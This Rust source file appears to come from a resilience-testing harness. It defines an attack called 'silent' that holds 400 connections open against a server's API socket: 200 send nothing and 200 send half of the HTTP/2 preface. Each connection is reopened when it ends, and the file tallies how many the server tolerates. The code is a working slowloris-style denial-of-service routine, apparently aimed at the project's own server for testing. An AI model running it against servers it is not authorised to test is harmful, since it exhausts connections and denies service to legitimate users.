//! 200 connections that send nothing, and 200 that send half of the HTTP/2 preface. A connection that ends is opened
//! again.

use std::{
    net::{Ipv4Addr, SocketAddr},
    sync::atomic::{AtomicU64, Ordering},
    time::{Duration, Instant},
};

use async_trait::async_trait;
use futures::future::join_all;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpSocket, TcpStream},
};
use tokio_util::sync::CancellationToken;

use super::Attack;
use crate::{sockets, tally::Tally, world::World};

pub(super) const NAME: &str = "silent";
/// The number of connections of each kind.
const CONNECTIONS: usize = 200;
/// Half of the preface `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n` (RFC 9113, section 3.4).
const HALF_PREFACE: &[u8] = b"PRI * HTTP/2";
/// The pause before a connection that ended is opened again.
const PAUSE: Duration = Duration::from_secs(1);

pub(super) struct Silent {
    server: SocketAddr,
}

pub(super) fn prepare(world: &World) -> anyhow::Result<Silent> {
    Ok(Silent { server: world.api_socket()? })
}

/// Opens a connection from this address. `receive_buffer`, if given, limits the bytes that the system receives.
pub(super) async fn connect(from: Ipv4Addr, to: SocketAddr, receive_buffer: Option<u32>) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    if let Some(bytes) = receive_buffer {
        socket.set_recv_buffer_size(bytes)?;
    }
    socket.bind((from, 0).into())?;
    socket.connect(to).await
}

#[async_trait]
impl Attack for Silent {
    fn is_endless(&self) -> bool {
        true
    }

    async fn run(&self, address: Ipv4Addr, until: &CancellationToken, tally: &Tally) -> anyhow::Result<()> {
        let longest_ms = &AtomicU64::new(0);
        let server = self.server;
        let hold = |number: usize| async move {
            let greeting = if number < CONNECTIONS { &b""[..] } else { HALF_PREFACE };
            until.run_until_cancelled(hold(address, server, greeting, longest_ms, tally)).await;
        };
        let all = join_all((0..2 * CONNECTIONS).map(hold));
        let look = async {
            until.cancelled().await;
            sockets::peers_of(server.port())
        };
        // Counted at the moment of stopping, before the connections are closed.
        let (held, _) = tokio::join!(biased; look, all);
        let held = held?.iter().filter(|peer| *peer.ip() == address).count();
        let longest = Duration::from_millis(longest_ms.load(Ordering::Relaxed));
        tally.note(format!(
            "{held} of {} open at the end; the longest that ended was open for {:.0} s",
            2 * CONNECTIONS,
            longest.as_secs_f64()
        ));
        Ok(())
    }
}

/// Holds one connection after the other, without end.
async fn hold(from: Ipv4Addr, server: SocketAddr, greeting: &[u8], longest_ms: &AtomicU64, tally: &Tally) {
    loop {
        let begun = Instant::now();
        match held(from, server, greeting).await {
            Ok(()) => tally.happened("ended by the server"),
            Err(_) => tally.happened("no connection"),
        }
        longest_ms.fetch_max(u64::try_from(begun.elapsed().as_millis()).unwrap_or(u64::MAX), Ordering::Relaxed);
        tokio::time::sleep(PAUSE).await;
    }
}

/// Holds one connection until the server closes it.
async fn held(from: Ipv4Addr, server: SocketAddr, greeting: &[u8]) -> std::io::Result<()> {
    let mut connection = connect(from, server, None).await?;
    connection.write_all(greeting).await?;
    let mut answer = [0; 1_024];
    while connection.read(&mut answer).await.unwrap_or(0) > 0 {}
    Ok(())
}
